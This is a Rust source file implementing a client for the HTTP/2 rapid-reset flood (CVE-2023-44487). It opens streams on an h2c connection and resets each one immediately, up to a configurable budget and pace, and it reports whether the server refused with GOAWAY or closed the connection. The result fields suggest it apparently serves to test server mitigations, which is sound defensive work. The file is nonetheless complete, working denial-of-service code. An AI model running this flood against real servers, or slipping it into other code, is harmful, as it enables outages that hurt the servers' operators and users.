//! The HTTP/2 rapid-reset flood (CVE-2023-44487) as a client: open a stream, reset it at once,
//! again and again on one connection (h2c with prior knowledge), until the server sends the
//! connection away or the budget runs out.

use std::{
    net::TcpStream,
    time::{Duration, Instant},
};

use hyper::Request;

/// How a flood went.
#[derive(Debug, Clone)]
pub struct ResetFlood {
    /// Streams opened and reset.
    pub resets: u32,
    /// Why the client stopped before its budget: the server's GOAWAY or the connection's end
    /// (none: it used the whole budget).
    pub refused: Option<String>,
    /// The connection ended (the server closed it) within the wait after the flood.
    pub connection_ended: bool,
    /// From the first stream to the connection's end (or the end of the wait).
    pub elapsed: Duration,
}

/// Floods `stream` (a TCP connection to an h2c server) with up to `budget` streams to
/// `authority` + `path_prefix/N`, each reset as soon as it is sent, `pace` apart; then waits
/// up to `wait` for the server to close the connection.
pub fn reset_flood(
    stream: TcpStream,
    authority: &str,
    path_prefix: &str,
    budget: u32,
    pace: Duration,
    wait: Duration,
) -> ResetFlood {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("tokio runtime");
    runtime.block_on(async {
        stream.set_nonblocking(true).expect("non-blocking socket");
        let tcp = tokio::net::TcpStream::from_std(stream).expect("tokio socket");
        let (mut sender, connection) = h2::client::handshake(tcp).await.expect("h2 handshake");
        let mut connection = tokio::spawn(connection);
        let start = Instant::now();
        let mut resets = 0;
        let mut refused = None;
        while resets < budget {
            if connection.is_finished() {
                refused = Some("the connection ended".to_owned());
                break;
            }
            sender = match tokio::time::timeout(wait, sender.clone().ready()).await {
                Ok(Ok(ready)) => ready,
                Ok(Err(e)) => {
                    refused = Some(format!("not ready: {e}"));
                    break;
                }
                Err(_) => {
                    refused = Some(format!("not ready within {wait:?}"));
                    break;
                }
            };
            let request = Request::get(format!("http://{authority}{path_prefix}/{resets}"))
                .body(())
                .expect("request");
            match sender.send_request(request, true) {
                Ok((_response, mut stream)) => stream.send_reset(h2::Reason::CANCEL),
                Err(e) => {
                    refused = Some(format!("send_request: {e}"));
                    break;
                }
            }
            resets += 1;
            tokio::time::sleep(pace).await;
        }
        drop(sender);
        let connection_ended = tokio::time::timeout(wait, &mut connection).await.is_ok();
        if !connection_ended {
            connection.abort();
        }
        ResetFlood {
            resets,
            refused,
            connection_ended,
            elapsed: start.elapsed(),
        }
    })
}
